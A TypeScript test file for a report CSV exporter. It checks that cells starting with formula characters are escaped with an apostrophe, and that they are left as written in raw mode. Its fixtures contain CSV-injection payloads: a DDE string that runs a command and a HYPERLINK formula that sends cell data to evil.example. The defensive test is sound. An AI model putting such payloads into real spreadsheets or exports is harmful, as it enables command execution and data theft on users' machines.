// The report's CSV opened in a spreadsheet: names that look like formulas must stay text, our own
// numbers must stay numbers.
import { parse } from "csv-parse/sync";
import { renderCsv } from "../../../src/reports/csv";
import type { PlanReport } from "../../../src/services/plan-report";

const EVIL = `=cmd|' /C calc'!A0`;
const LINK = `=HYPERLINK("http://evil.example/?q="&A1,"click")`;

function report(): PlanReport {
  return {
    id: 1,
    versionNumber: 1,
    constraintSetId: 1,
    constraintSetName: LINK,
    constraintSetVersion: 1,
    constraintSetDefinition: { name: LINK, budget: 10 },
    status: "SUCCEEDED",
    method: "GREEDY",
    requestedBy: null,
    name: null,
    notes: null,
    whatIf: null,
    basePlan: null,
    createdAt: new Date("2026-12-01T10:00:00Z"),
    startedAt: new Date("2026-12-01T10:00:01Z"),
    finishedAt: new Date("2026-12-01T10:00:02Z"),
    names: { offers: {}, channels: {} },
    parameters: {},
    kpis: { expectedReturn: -12.5, cost: 10, roi: -2.25, contacts: 3 },
    timings: null,
    error: null,
    provenance: {
      datasetRevision: 1,
      historyRevision: null,
      stale: null,
      fingerprint: null,
      stored: null,
      failedInPhase: null,
      replayOf: null,
    },
    constraintReport: [
      {
        name: "@budget",
        kind: "budget",
        sense: "<=",
        activity: 10,
        bound: 10,
        slack: 0,
        dual: -0.5,
        binding: true,
      },
    ],
    offerChannel: [{ offer: EVIL, channel: "mail", contacts: 3, expectedReturn: -12.5, cost: 10 }],
    channels: [
      { channel: "+mail", contacts: 3, expectedReturn: -12.5, cost: 10, profit: -22.5, roi: -2.25 },
      { channel: "\tbranch", contacts: 0, expectedReturn: 0, cost: 0, profit: 0, roi: null },
    ],
    results: [],
    segments: [{ segment: "-mass", contacts: 3, expectedReturn: -12.5, cost: 10, roi: -2.25 }],
  };
}

type Row = { section: string; key: string; metric: string; value: string };
const rowsOf = (csv: string): Row[] => parse(csv, { columns: true });
const find = (rows: Row[], section: string, key: string, metric: string) =>
  rows.find((r) => r.section === section && r.key === key && r.metric === metric);

describe("report CSV", () => {
  it("prefixes text cells that a spreadsheet would run as a formula", () => {
    const rows = rowsOf(renderCsv(report()));
    expect(find(rows, "plan", "1", "constraint_set")?.value).toBe(`'${LINK}`);
    expect(find(rows, "offer_channel_frequency", `'${EVIL}/mail`, "contacts")?.value).toBe("3");
    expect(find(rows, "channel_profitability", "'+mail", "profit")?.value).toBe("-22.5");
    expect(find(rows, "channel_profitability", "'\tbranch", "contacts")?.value).toBe("0");
    expect(find(rows, "segment_summary", "'-mass", "roi")?.value).toBe("-2.25");
    expect(find(rows, "constraint_report", "'@budget", "marginal_value")?.value).toBe("-0.5");
    // our own numbers keep their sign
    expect(find(rows, "kpis", "optimized", "expected_return")?.value).toBe("-12.5");
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+@\t\r]/);
  });

  it("writes cells as they are when raw output is asked for", () => {
    const rows = rowsOf(renderCsv(report(), { rawCsv: true }));
    expect(find(rows, "plan", "1", "constraint_set")?.value).toBe(LINK);
    expect(find(rows, "channel_profitability", "+mail", "profit")?.value).toBe("-22.5");
    expect(find(rows, "segment_summary", "-mass", "roi")?.value).toBe("-2.25");
  });
});
